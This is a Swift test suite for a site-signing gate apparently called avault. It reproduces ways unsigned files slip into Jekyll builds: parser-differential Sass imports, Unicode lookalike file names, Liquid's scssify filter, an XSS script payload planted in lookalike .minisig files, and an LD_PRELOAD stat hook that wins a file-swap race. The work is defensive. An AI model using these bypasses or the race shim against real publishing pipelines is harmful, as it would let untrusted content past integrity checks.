    /// false failure: a page importing a partial of its own name was taken for its own import.
    @Test(.timeLimit(.minutes(30))) func sassReadAsLibsassReadsItAgain() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        // (A post's `.minisig` would be a post too: Jekyll leaves them out, and so does the gate.)
        try c.write("_config.yml", "title: t\nexclude: [\"*.minisig\"]\n")
        try c.write("_sass/_a.scss", "a { b: c; }\n")
        try c.write("_sass/_site.scss", "s { t: 'signed site'; }\n")
        try c.write("assets/.t/_vars.scss", "w { x: 'signed beside'; }\n")
        try c.sign(["_config.yml", "_sass/_a.scss", "_sass/_site.scss", "assets/.t/_vars.scss"], detached: true)
        let pages = ["u.scss": "@import url(//fonts.example.com/css?f=x), \".u\";\n", "v.scss": "@import \"a\"\u{0B}, \".v\";\n",
                     "k.sass": "@import x{.css, .k\n", "l.scss": "@imp{{ site.baseurl }}ort \".l\";\n",
                     "assets/main.scss": "@import \".t/vars\";\n", "assets/css/site.scss": "@import \"site\";\n"]
        for (name, body) in pages { try c.write(name, "---\n---\n" + body) }
        try c.sign(pages.keys.sorted(), detached: false)
        // (`assets/css/site.scss` without: the page is not its own import.)
        try c.sign(pages.keys.sorted().filter { $0 != "assets/css/site.scss" }, detached: true)
        let gate = ["verify", "--require-signature", "--require-place", c.content.path, "--exclude", "*.minisig"] + c.ring
        // (Lists libsass and a scan may read two ways fail closed: a vertical tab, `{` in a bare name.)
        let clean = try CLI.avault(gate + ["--exclude", "/v.scss*", "--exclude", "/k.sass*"])
        #expect(clean.code == 0, "\(clean.out)")

        for (name, mark) in [(".u.scss", "u"), (".v.scss", "v"), (".k.scss", "k"), (".l.scss", "l"), (".t/_vars.scss", "t"), ("_sass/.p.scss", "p")] {
            try c.write(name, "u { v: 'unsigned \(mark)'; }\n")
        }
        // (A post's imports are looked for in the directory the build runs in, then `_sass/`.)
        try c.write("_posts/2024-01-01-s.scss", "{{ \"@\" }}import \".p\";\n")
        try c.sign(["_posts/2024-01-01-s.scss"], detached: true)
        let site = try c.jekyllBuild()
        for (page, mark) in [("u", "u"), ("v", "v"), ("k", "k"), ("l", "l"), ("assets/main", "t"), ("2024/01/01/s", "p"), ("assets/css/site", "signed site")] {
            let css = try String(contentsOf: site.appendingPathComponent(page + ".css"), encoding: .utf8)
            #expect(css.contains(mark), "Jekyll did not publish \(mark) in \(page).css: \(css)")
        }
        let r = try CLI.avault(gate)
        #expect(r.code == 1, "\(r.out)")
        for page in ["v.scss", "k.sass"] {
            #expect(r.out.contains("\(c.path(page)): valid: @import ") && r.out.contains("in \(c.path(page)): a name known only as it compiles, or a list the gate does not read; not checked"),
                    "\(page): \(r.out)")
        }
        for (file, page, name) in [(".u.scss", "u.scss", ".u"), (".l.scss", "l.scss", ".l"), (".t/_vars.scss", "assets/main.scss", ".t/vars")] {
            #expect(r.out.contains("\(c.path(file)): unsigned: no front matter; read into \(c.path(page)) by @import \"\(name)\""), "\(file): \(r.out)")
        }
        #expect(r.out.contains("Liquid \"{{ \"@\" }}\" in \(c.path("_posts/2024-01-01-s.scss")), which Jekyll renders"), "\(r.out)")
        #expect(!r.out.contains("assets/css/site.scss"), "\(r.out)")

        // Many `@import`s, each with a comment that does not close, in a Sass file: read in
        // bounded time, failing closed.
        try c.write("_sass/_many.scss", String(repeating: "@import/*", count: 20_000))
        let many = try CLI.avault(gate + ["--include", "_sass/_many.scss"])
        #expect(many.code == 1 && many.out.contains("\(c.path("_sass/_many.scss")): @import rules too many or too long to read; not checked"), "\(many.out)")
    }

    /// Found by a third review, each with a real `jekyll build` publishing an unsigned file
    /// while the gate passed, where the scan and libsass's lexers part ways: a string over a
    /// line break, `url(a(b))`, `url-x(`, a NUL that Liquid's `{{-` trims (Ruby's `strip`), and
    /// `/{{ site.baseurl }}` rendered `//blog`, a comment; and by a fourth, a vertical tab after
    /// a bare name in the indented syntax (sass2scss trims it). Such lists now fail closed.
    @Test(.timeLimit(.minutes(30))) func sassListsReadTwoWaysFailClosed() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\nbaseurl: /blog\n")
        try c.sign(["_config.yml"], detached: true)
        let pages = ["s.scss": "@import \"x\n.css\", \".s\";\n", "p.scss": "@import url(a(b)), \".p\";\n", "x.scss": "@import url-x(a\n), \".x\";\n",
                     "n.scss": "@imp\u{0}{{- site.url }}ort \".n\";\n", "b.scss": "@import \"a.css\" /{{ site.baseurl }}\n, \".b\";\n",
                     "v.sass": "@import .v\u{0B}\n"]
        for (name, body) in pages { try c.write(name, "---\n---\n" + body) }
        try c.sign(pages.keys.sorted(), detached: false)
        try c.sign(pages.keys.sorted(), detached: true)
        for mark in ["s", "p", "x", "n", "b", "v"] { try c.write(".\(mark).scss", "u { v: 'unsigned \(mark)'; }\n") }
        let site = try c.jekyllBuild()
        for mark in ["s", "p", "x", "n", "b", "v"] {
            let css = try String(contentsOf: site.appendingPathComponent("\(mark).css"), encoding: .utf8)
            #expect(css.contains("unsigned \(mark)"), "Jekyll did not publish .\(mark).scss: \(css)")
        }
        let r = try CLI.avault(["verify", "--require-signature", "--require-place", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        for page in ["s.scss", "p.scss", "x.scss", "b.scss", "v.sass"] {
            #expect(r.out.contains("in \(c.path(page)): a name known only as it compiles, or a list the gate does not read; not checked"), "\(page): \(r.out)")
        }
        #expect(r.out.contains("\(c.path(".n.scss")): unsigned: no front matter; read into \(c.path("n.scss")) by @import \".n\""), "\(r.out)")
    }

    /// Found by a fifth review, each with a real `jekyll build` publishing an unsigned file
    /// while the gate passed: names libsass resolves otherwise than by their parts (`.//abs/e`
    /// is the absolute `/abs/e`; `x:/.y` is absolute, read from the build's directory, not
    /// beside the importing file, where a signed decoy stopped the gate's search; `.r/.` is
    /// `.r`), and Sass compiled by Liquid's `scssify` filter in a page.
    @Test(.timeLimit(.minutes(30))) func sassNamesLibsassResolvesOtherwiseFailClosed() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\n")
        try c.write("_sass/_a.scss", "a { b: c; }\n")
        try c.write("_sass/_p.scss", "@import \"x:/.y\";\n")
        try c.write("_sass/x:/.y.scss", "y { z: 'signed decoy'; }\n")
        try c.sign(["_config.yml", "_sass/_a.scss", "_sass/_p.scss", "_sass/x:/.y.scss"], detached: true)
        let outside = c.demo.dir.appendingPathComponent("outside")
        try FileManager.default.createDirectory(at: outside, withIntermediateDirectories: true)
        try CLI.write("u { v: 'unsigned e'; }\n", to: outside.appendingPathComponent("_e.scss"))
        let pages = ["e.scss": "@import \"a\", \".//\(outside.path.dropFirst())/e\";\n", "r.scss": "@import \"a\", \".r/.\";\n", "q.scss": "@import \"a\", \"p\";\n"]
        for (name, body) in pages { try c.write(name, "---\n---\n" + body) }
        try c.write("index.md", "---\ntitle: home\n---\n<style>{{ \"@import '.f';\" | scssify }}</style>\n")
        try c.sign(pages.keys.sorted() + ["index.md"], detached: false)
        try c.sign(pages.keys.sorted(), detached: true)
        for (name, mark) in [(".r.scss", "r"), ("x:/.y.scss", "q"), (".f.scss", "f")] { try c.write(name, "u { v: 'unsigned \(mark)'; }\n") }
        // Built in the site's directory (as docs/cli.md asks): libsass reads `x:/.y` and what
        // `scssify` imports from there.
        let site = try c.jekyllBuild(inSite: true)
        for (file, mark) in [("e.css", "e"), ("r.css", "r"), ("q.css", "q"), ("index.html", "f")] {
            let text = try String(contentsOf: site.appendingPathComponent(file), encoding: .utf8)
            #expect(text.contains("unsigned \(mark)"), "Jekyll did not publish \(mark) in \(file): \(text)")
        }
        let r = try CLI.avault(["verify", "--require-signature", "--require-place", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        for (page, name) in [("e.scss", ".//\(outside.path.dropFirst())/e"), ("r.scss", ".r/."), ("_sass/_p.scss", "x:/.y")] {
            #expect(r.out.contains("@import \"\(name)\" in \(c.path(page)): a name libsass may resolve otherwise (an empty or `.` part, a `:`); not checked"),
                    "\(page): \(r.out)")
        }
        #expect(r.out.contains("Liquid's scssify filter in \(c.path("index.md")) compiles Sass whose imports are not read; not checked"), "\(r.out)")
    }

    /// Found by a sixth review, each with a real `jekyll build` publishing an unsigned file
    /// while the gate passed: a Sass page named `main.ſcss` (Ruby's `/i` folds U+017F to `s`,
    /// so jekyll-sass-converter compiles it; the gate took it for no Sass); `scssify` in a file
    /// `include_relative` reads (the check looked only at pages, posts, layouts and includes);
    /// and `scssify` in an include over 64 MiB (read whole only up to that size).
    @Test(.timeLimit(.minutes(30))) func sassCompiledWhereverJekyllCompilesItIsSeen() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\n")
        try c.write("assets/main.\u{17F}css", "---\n---\n@import \".u\";\n")
        // (Found by a seventh review: Ruby's `$` matches before a final line break.)
        try c.write("nl.scss\n", "---\n---\n@import \".n\";\n")
        try c.write("page.md", "---\ntitle: p\n---\n{% include_relative snip.txt %}\n")
        try c.write("snip.txt", "{{ \"@import '.i';\" | scssify }}\n")
        try c.sign(["assets/main.\u{17F}css", "page.md", "nl.scss\n"], detached: false)
        try c.sign(["_config.yml", "assets/main.\u{17F}css", "snip.txt", "nl.scss\n"], detached: true)
        for mark in ["u", "i", "n"] { try c.write(".\(mark).scss", "u { v: 'unsigned \(mark)'; }\n") }
        let site = try c.jekyllBuild(inSite: true)
        for (file, mark) in [("assets/main.css", "u"), ("page.html", "i"), ("nl.css", "n")] {
            let text = try String(contentsOf: site.appendingPathComponent(file), encoding: .utf8)
            #expect(text.contains("unsigned \(mark)"), "Jekyll did not publish \(mark) in \(file): \(text)")
        }
        let gate = ["verify", "--require-signature", "--require-place", c.content.path] + c.ring
        let r = try CLI.avault(gate + ["--exclude", "/.*"])
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path(".u.scss")): unsigned: no front matter; read into \(c.path("assets/main.\u{17F}css")) by @import \".u\""), "\(r.out)")
        #expect(r.out.contains("Liquid's scssify filter in \(c.path("snip.txt")) compiles Sass whose imports are not read; not checked"), "\(r.out)")
        #expect(r.out.contains("\(c.path(".n.scss")): unsigned: no front matter; read into "), "\(r.out)")

        // An include over 64 MiB.
        for name in ["assets/main.\u{17F}css", "assets/main.\u{17F}css.minisig", "page.md", "snip.txt", "snip.txt.minisig", "nl.scss\n", "nl.scss\n.minisig"] {
            try FileManager.default.removeItem(atPath: c.path(name))
        }
        var big = Data("{{ \"@import '.i';\" | scssify }}\n{% comment %}".utf8)
        big.append(Data(repeating: 0x78, count: 64 << 20))
        big.append(Data("{% endcomment %}\n".utf8))
        try FileManager.default.createDirectory(atPath: c.path("_includes"), withIntermediateDirectories: true)
        try big.write(to: URL(fileURLWithPath: c.path("_includes/big.html")))
        try c.sign(["_includes/big.html"], detached: true)
        let large = try CLI.avault(gate + ["--exclude", "/.*"])
        #expect(large.code == 1 && large.out.contains("Liquid's scssify filter in \(c.path("_includes/big.html")) compiles Sass"), "\(large.out)")
    }

    /// The gate looks for Liquid's `scssify` and `sassify` in the bytes it has read to verify a
    /// file: a signed page is opened once, not read whole a second time for the words (as
    /// `strace` shows), and the words are still found in it.
    @Test(.disabled(if: CLI.sanitized, "traces system calls"),
          .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/strace"), "needs strace"))
    func aPassingFileIsReadOnceForLiquidsSassFilters() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("page.md", "---\ntitle: p\n---\nA page that passes.\n", sign: true)
        try c.write("other.md", "---\ntitle: o\n---\n<style>{{ \"a { b: c; }\" | sassify }}</style>\n", sign: true)
        let trace = c.demo.dir.appendingPathComponent("trace").path
        let r = try CLI.run("/usr/bin/strace", ["-f", "-qq", "-e", "trace=open,openat", "-o", trace, CLI.avaultPath,
                                                "verify", "--require-signature", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)\(r.err)")
        #expect(r.out.contains("\(c.path("other.md")): valid: Liquid's sassify filter in \(c.path("other.md")) compiles Sass"), "\(r.out)")
        #expect(r.out.contains("2 records: 1 passed, 1 failed"), "\(r.out)")
        let opens = try String(contentsOfFile: trace, encoding: .utf8).split(separator: "\n")
        for name in ["page.md", "other.md"] {
            #expect(opens.count { $0.contains("\"\(c.path(name))\"") } == 1, "\(name): \(opens.filter { $0.contains(name) })")
        }
    }

    /// Found by this session's review: a `.minisig` was paired with the file its name less
    /// `.minisig` names as Swift compares strings (canonical equivalence), and then neither
    /// taken as a file of its own nor read as anyone's signature (the reader opens the paired
    /// file's name plus `.minisig`, by its bytes): `\u{212A}aTeX.js.minisig` beside a signed
    /// `KaTeX.js`, or `cafe\u{301}.js.minisig` beside `café.js`, held any text Jekyll published.
    @Test(.timeLimit(.minutes(30))) func signaturesArePairedByTheBytesOfTheirNames() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        for name in ["assets/KaTeX.js", "assets/caf\u{E9}.js"] {
            try c.write(name, "console.log('signed');\n")
            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0)
        }
        let gate = ["verify", "--require-signature", "--require-place", c.content.path] + c.ring
        #expect(try CLI.avault(gate).code == 0)
        let lookalikes = ["assets/\u{212A}aTeX.js.minisig", "assets/cafe\u{301}.js.minisig"]
        for name in lookalikes {
            try c.write(name, "untrusted comment: \n<html><script>alert(document.domain)</script>\n")
        }
        let site = try c.jekyllBuild()
        for name in lookalikes { #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent(name).path), "\(name)") }
        let r = try CLI.avault(gate)
        #expect(r.code == 1 && r.out.contains("4 records: 2 passed, 2 failed (valid 2, unsigned 2)"), "\(r.out)")
        for name in lookalikes { #expect(r.out.contains("\(c.path(name)): unsigned: no front matter"), "\(name): \(r.out)") }
    }

    /// A symbolic link that leads nowhere fails, as a file not read, and says so once (its
    /// reason read `not a regular file, not a regular file`).
    @Test func aLinkThatLeadsNowhereFails() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try FileManager.default.createDirectory(atPath: c.path("lib"), withIntermediateDirectories: true)
        #expect(symlink("nowhere.js", c.path("lib/c.js")) == 0)
        #expect(symlink("nowhere.md", c.path("page.md")) == 0)
        for gate in [["verify", "--require-signature"], ["verify"]] {
            let r = try CLI.avault(gate + [c.content.path] + c.ring)
            #expect(r.code == 1, "\(r.out)")
            #expect(r.out.contains("\(c.path("page.md")): malformed: a symbolic link that leads nowhere, or a file removed meanwhile (not opened)\n"), "\(r.out)")
            #expect(r.out.contains("lib/c.js") == (gate.count == 2), "\(r.out)")
        }
    }

    /// Found by an attack review: a site 900 directories deep crashed the gate (the walk's
    /// recursion ran out of stack: exit 139, no message). It stops at
    /// ``RecordWalker/depthLimit`` directories below the one named, with a message and exit 2,
    /// and walks a tree that deep as any other.
    @Test func aTreeTooDeepToWalkStopsTheGate() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        let limit = RecordWalker.depthLimit
        for (top, depth) in [("deep", limit), ("deeper", limit + 1), ("deepest", 900)] {
            let dir = c.path(top) + String(repeating: "/d", count: depth)
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
            try Data("unsigned\n".utf8).write(to: URL(fileURLWithPath: dir + "/x.js"))
        }
        let deep = try CLI.avault(["verify", "--require-signature", c.path("deep")] + c.ring)
        #expect(deep.code == 1 && deep.out.contains("/d/x.js: unsigned"), "\(deep.code) \(deep.out)\(deep.err)")
        for top in ["deeper", "deepest"] {
            let r = try CLI.avault(["verify", "--require-signature", c.path(top)] + c.ring)
            #expect(r.code == 2 && r.out.isEmpty, "\(top): \(r.code) \(r.out)")
            #expect(r.err.hasPrefix("avault: \(c.path(top))/d/") && r.err.contains(": more than \(limit) directories below the one named; the walk stopped\n"),
                    "\(top): \(r.err)")
        }
    }

    /// Found by the read of last session's diff: the gate looked at the kind of `PAGE.minisig`
    /// (never opening a FIFO), then opened it to read it, blocking: a FIFO swapped in between
    /// the two hung the gate. Here a `stat` that swaps the signature for a FIFO right after it
    /// has looked at it (an `LD_PRELOAD` library built for the test) wins that race every time.
    @Test(.timeLimit(.minutes(30))) func aSignatureSwappedForAFIFOAfterItsCheckDoesNotHangTheGate() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        let swapping = try c.preload("swap-for-fifo", """
            #include <stdio.h>
            #include <string.h>
            #include <sys/stat.h>
            static int swapped;
            int stat(const char *path, struct stat *st) {
                int (*real)(const char *, struct stat *) = (int (*)(const char *, struct stat *))dlsym(RTLD_NEXT, "stat");
                int r = real(path, st);
                size_t n = strlen(path);
                if (r == 0 && !swapped && n > 8 && strcmp(path + n - 8, ".minisig") == 0 && S_ISREG(st->st_mode)) {
                    char moved[4096];
                    snprintf(moved, sizeof moved, "%s.moved", path);
                    swapped = rename(path, moved) == 0 && mkfifo(path, 0644) == 0;
                }
                return r;
            }
            """)
        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
        #expect(try CLI.avault(["sign", "--detached", c.path("index.md"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let gate = [CLI.avaultPath, "verify", "--require-signature", c.content.path] + c.ring
        #expect(try CLI.run("/usr/bin/timeout", ["-s", "KILL", "60"] + gate).code == 0)
        let r = try CLI.run("/usr/bin/timeout", ["-s", "KILL", "60"] + gate, env: swapping)
        #expect(r.code == 1, "\(r.code) \(r.out)")
        #expect(r.out.contains("\(c.path("index.md.minisig")): a FIFO, not a regular file"), "\(r.out)")
        // The swap happened: the signature was moved away, a FIFO is in its place.
        #expect(FileManager.default.fileExists(atPath: c.path("index.md.minisig.moved")))
        var st = stat()
        #expect(lstat(c.path("index.md.minisig"), &st) == 0 && st.st_mode & S_IFMT == S_IFIFO)
    }
}

extension PublishingGate.Corpus {
    /// Signs each of `names` (embedded, or `detached`) with the demo desk's key, bound to its
    /// place in the site.
    func sign(_ names: [String], detached: Bool) throws {
        for name in names {
            let r = try CLI.avault(["sign"] + (detached ? ["--detached"] : []) + ["--site", content.path, path(name), "--key", "demo-desk"] + demo.args)
            #expect(r.code == 0, "\(name): \(r.err)")
        }
    }

    /// Builds `source` (C, after `_GNU_SOURCE` and `dlfcn.h`) into a shared library beside the
    /// corpus and returns the environment that loads it first in `avault` (`LD_PRELOAD`): to
    /// stand in for a file system, or an attacker, that the machine cannot provide on demand.
    func preload(_ name: String, _ source: String) throws -> [String: String] {
        let library = demo.dir.appendingPathComponent(name + ".so").path
        let file = demo.dir.appendingPathComponent(name + ".c")
        try CLI.write("#define _GNU_SOURCE\n#include <dlfcn.h>\n" + source + "\n", to: file)
        let built = try CLI.run("clang", ["-shared", "-fPIC", "-O1", "-o", library, file.path, "-ldl"])
        try #require(built.code == 0, "clang: \(built.err)")
        // Under AddressSanitizer, the library comes before the sanitizer's runtime: allowed here.
        let asan = ProcessInfo.processInfo.environment["ASAN_OPTIONS"].map { $0 + ":" } ?? ""
        return ["LD_PRELOAD": library, "ASAN_OPTIONS": asan + "verify_asan_link_order=0"]
    }
}
